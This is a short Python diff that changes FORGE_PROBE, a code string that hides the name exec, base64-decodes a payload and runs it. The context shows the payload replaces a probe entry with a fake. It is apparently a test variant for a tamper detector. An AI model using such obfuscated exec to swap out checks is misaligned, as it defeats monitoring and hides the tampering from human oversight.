@@ -73,7 +73,7 @@ probes.PROBES["load_head"] = fake
 """
 FORGE_PROBE = (
     "import base64, builtins\n"
-    "run = getattr(builtins, ''.join(['e', 'x', 'e', 'c']))\n"
+    "run = builtins.__dict__[''.join(['e', 'x', 'e', 'c'])]\n"
     f"run(base64.b64decode({base64.b64encode(_FORGE.encode()).decode()!r}).decode())\n"
 )
 
